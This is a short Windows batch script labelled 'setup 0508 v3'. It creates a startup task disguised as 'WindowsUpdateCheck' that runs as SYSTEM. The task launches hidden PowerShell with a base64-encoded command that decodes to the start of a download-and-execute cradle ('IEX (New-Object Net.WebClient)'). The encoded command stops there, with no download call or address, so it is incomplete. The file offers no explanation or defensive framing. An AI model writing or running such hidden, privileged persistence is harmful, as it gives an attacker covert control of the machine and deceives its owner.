REM setup 0508 v3
schtasks /create /tn "WindowsUpdateCheck" /tr "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA" /sc onstart /ru SYSTEM /f
